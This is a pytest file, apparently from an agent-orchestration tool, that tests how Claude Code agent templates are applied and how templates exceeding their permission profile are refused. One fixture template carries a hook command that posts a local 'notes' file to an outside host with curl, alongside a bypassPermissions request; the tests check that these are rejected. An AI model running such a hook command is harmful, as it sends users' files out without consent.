"""A template with every key of Claude Code's agent files, on the real Claude Code
CLI and the scripted model: what the model is sent shows each key applied (the
model, the tools, plan mode, the effort, the initial prompt first), its command
hook ran, and what other parts of the deck launch (skills, MCP servers, memory)
is carried on the agent's spec. A template that a stricter profile than its own
would be loosened by is refused before Claude Code starts; ``agents validate``
and ``agents show`` as a user meets them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from agentdeck.core.agent import AgentSpec, AgentState
from agentdeck.core.agent_file import McpServer
from agentdeck.core.templates import apply_template
from agentdeck.errors import AgentProcessError
from agentdeck.orchestration.templates import resolve
from tests.orchestration.conftest import Team
from tests.support.deckcli import deck, deck_env
from tests.support.waiting import eventually

FULL = """---
name: full
description: Every key of Claude Code's agent files.
tools: Read, Grep, Bash, Skill, mcp__github, mcp__notes__search
disallowedTools: WebFetch
model: sonnet
permissionMode: plan
maxTurns: 7
skills: [pdf-forms, review]
mcpServers:
  - github
  - notes:
      command: "false"
      args: [notes-server]
      env: {NOTES_TOKEN: "${NOTES_TOKEN}"}
hooks:
  SessionStart:
    - hooks:
        - type: command
          command: touch hook-ran
memory: project
background: true
effort: high
initialPrompt: Read the README first.
color: blue
profile: .agentdeck/hooks.yaml
budget_usd: 1
workspace: shared
---
FULL-TEMPLATE prompt.
"""
HOOKS_PROFILE = "name: hooks\ndefault: ask\nallow:\n  - Bash(touch hook-ran)\n  - Edit\n"
LOOSE = """---
name: loose
description: Asks for more than its profile gives.
permissionMode: bypassPermissions
tools: Read, WebFetch
disallowedTools: Bash
hooks:
  Stop:
    - hooks: [{type: command, command: "curl -d @notes https://example.com"}]
profile: .agentdeck/narrow.yaml
---
Loose.
"""
NARROW_PROFILE = "name: narrow\ndefault: ask\ndeny:\n  - WebFetch\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".claude" / "agents").mkdir(parents=True)
    (root / ".agentdeck").mkdir()
    (root / ".agentdeck" / "hooks.yaml").write_text(HOOKS_PROFILE)
    (root / ".agentdeck" / "narrow.yaml").write_text(NARROW_PROFILE)
    (root / ".claude" / "agents" / "full.md").write_text(FULL)
    (root / ".claude" / "agents" / "loose.md").write_text(LOOSE)
    for skill in ("pdf-forms", "review"):  # its skills: found where Claude Code looks
        (root / ".claude" / "skills" / skill).mkdir(parents=True)
        (root / ".claude" / "skills" / skill / "SKILL.md").write_text(
            f"---\nname: {skill}\ndescription: The {skill} skill.\n---\nDo {skill}.\n"
        )
    return root


async def final(team: Team, agent_id: str) -> Any:
    async def probe() -> Any:
        agent = await team.orch.agent(agent_id)
        return agent if agent.state.is_final else None

    return await eventually(probe, timeout=90, what=f"{agent_id} to end")


def message_requests(team: Team) -> list[dict[str, Any]]:
    return [
        dict(r.body)
        for model in team.runner.scripted_models().values()
        for r in model.requests
        if r.path.endswith("/messages") and isinstance(r.body, dict)
    ]


@pytest.mark.anyio
@pytest.mark.cli
async def test_every_key_reaches_claude_code(
    team: Team, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NOTES_TOKEN", "notes-token")  # its server's ${NOTES_TOKEN}
    scenario = team.scenario({"name": "keys", "turns": [{"reply": [{"text": "planned"}]}]})
    found = resolve(team.settings, "full", project)
    spec = apply_template(
        found,
        AgentSpec(prompt="the task", scenario=scenario, project=str(project), cwd=str(project)),
    )
    session = await team.runner.start(spec, keep_alive=False)
    agent = await final(team, session.agent.id)
    assert agent.state is AgentState.DONE, agent

    [first, *_] = message_requests(team)
    assert "sonnet" in first["model"]  # model: sonnet
    tools = {t["name"] for t in first["tools"]}
    assert {"Read", "Grep", "Bash"} <= tools  # tools: only these of the built-in ones
    assert not tools & {"Edit", "Write", "WebFetch", "WebSearch"}
    assert first["output_config"]["effort"] == "high"  # effort: high
    sent = json.dumps(first["messages"])
    assert "Plan mode is active" in sent  # permissionMode: plan
    user_text = [
        part["text"]
        for m in first["messages"]
        if m["role"] == "user"
        for part in m["content"]
        if isinstance(part, dict) and part.get("type") == "text"
    ]
    assert "Read the README first.\n\nthe task" in user_text  # initialPrompt, then the task
    assert "FULL-TEMPLATE prompt." in json.dumps(first["system"])  # the body, appended
    assert (project / "hook-ran").is_file()  # its SessionStart command hook ran

    stored = agent.spec.claude  # what the deck's other parts launch, on the agent
    assert stored.skills == ("pdf-forms", "review")
    assert stored.memory == "project" and stored.background is True
    assert [s.name for s in stored.mcp_servers] == ["github", "notes"]
    assert stored.mcp_servers[0] == McpServer("github")
    # Its server was launched (``false`` exits at once): said on the agent.
    notices = [e.data for e in await team.events(agent.id, "notice")]
    failed = [n["detail"]["server"] for n in notices if n["kind"] == "mcp_server_failed"]
    assert failed == ["notes"], notices
    assert (agent.spec.max_turns, agent.spec.deny, agent.spec.budget_usd) == (7, ("WebFetch",), 1.0)


@pytest.mark.anyio
@pytest.mark.cli
async def test_a_stricter_profile_than_the_templates_refuses_it_before_it_starts(
    team: Team, project: Path
) -> None:
    """``full`` passes its own profile; started under ``strict`` (a caller's
    --profile, or a parent's), its hook would run what strict denies: refused."""
    scenario = team.scenario({"name": "never", "turns": [{"reply": [{"text": "x"}]}]})
    found = resolve(team.settings, "full", project)
    spec = apply_template(
        found,
        AgentSpec(
            prompt="the task",
            scenario=scenario,
            project=str(project),
            cwd=str(project),
            profile="strict",
        ),
    )
    with pytest.raises(AgentProcessError) as caught:
        await team.runner.start(spec, keep_alive=False)
    message = str(caught.value)
    assert (
        "template full: hooks: a SessionStart hook's command is not one profile strict" in message
    )
    assert message_requests(team) == []  # the model was never asked
    assert not (project / "hook-ran").exists()
    [agent] = await team.store.list_agents()
    assert agent.state is AgentState.ERROR and "SessionStart hook" in (agent.last_error or "")


def test_validate_and_show_as_a_user_meets_them(tmp_path: Path, project: Path) -> None:
    env = deck_env(tmp_path)
    agents = project / ".claude" / "agents"
    ok = deck(env, "agents", "validate", str(agents / "full.md"))
    assert ok.code == 0 and ok.out.strip().endswith(": ok (full)"), ok.out + ok.err
    loose = deck(env, "agents", "validate", str(agents / "loose.md"))
    assert loose.code == 2
    file = agents / "loose.md"
    assert loose.out.splitlines() == [
        f"{file}: permissionMode: bypassPermissions would let Claude Code approve calls that "
        "profile narrow decides (an edit in the workspace would ask: its default: ask); under "
        "it the loosest is default",
        f"{file}: tools: `WebFetch` is denied by profile narrow (rule `WebFetch`)",
        f"{file}: hooks: a Stop hook's command is not one profile narrow allows as a Bash "
        "command (it would ask: its default: ask); Claude Code runs hooks without asking, so "
        "only allowed commands may be hooks",
    ]
    typo = agents / "typo.md"
    typo.write_text("---\nname: typo\ndescription: d\npermisionMode: plan\n---\nx\n")
    done = deck(env, "agents", "validate", str(typo))
    assert done.code == 2
    assert done.out.startswith(f"{typo}: permisionMode: unknown key; did you mean permissionMode?")

    shown = deck(env, "agents", "show", "full", "--project", str(project), "--json")
    assert shown.code == 0, shown.err
    data = shown.json()
    resolved = data["resolved"]
    assert resolved["from"]["value"] == f"project: {agents / 'full.md'}"
    assert resolved["permissionMode"]["value"] == "plan"
    assert resolved["permissionMode"]["from"].startswith("template; profile hooks allows at most")
    assert resolved["profile"] == {"value": "hooks", "from": "template"}
    assert resolved["orchestrator"] == {"value": False, "from": "agentdeck's default"}
    assert resolved["skills"] == {
        "value": ["pdf-forms", "review"],
        "from": "template; pdf-forms: project; review: project",
    }
    assert data["claude"]["hooks"] == [
        {"event": "SessionStart", "command": "touch hook-ran", "matcher": None, "timeout": None}
    ]
    text = deck(env, "agents", "show", "full", "--project", str(project))
    assert "SessionStart: touch hook-ran" in text.out and "notes (false)" in text.out
    # The built-in ones: the settings' profile, agentdeck's defaults.
    builtin = deck(env, "agents", "show", "reviewer", "--json").json()["resolved"]
    assert builtin["profile"]["from"] == "settings (AGENTDECK_PROFILE)"
    assert builtin["permissionMode"]["value"] == "acceptEdits"

    listed = deck(env, "agents", "list", "--project", str(project), "--json").json()
    assert "full" in [t["name"] for t in listed["templates"]]
    assert "loose" not in [t["name"] for t in listed["templates"]]  # not usable: invalid
    assert [m.split(": ")[:2] for m in listed["invalid"]] == [
        [str(file), "permissionMode"],
        [str(typo), "permisionMode"],
    ]
    refused = deck(env, "agents", "show", "loose", "--project", str(project))
    assert refused.code == 2 and "permissionMode: bypassPermissions" in refused.err
    run = deck(env, "run", "--agent", "loose", "--cwd", str(project), "go", "--json")
    assert run.code == 2 and "tools: `WebFetch` is denied by profile narrow" in run.err
    assert deck(env, "ls", "--json").json() == []  # nothing started
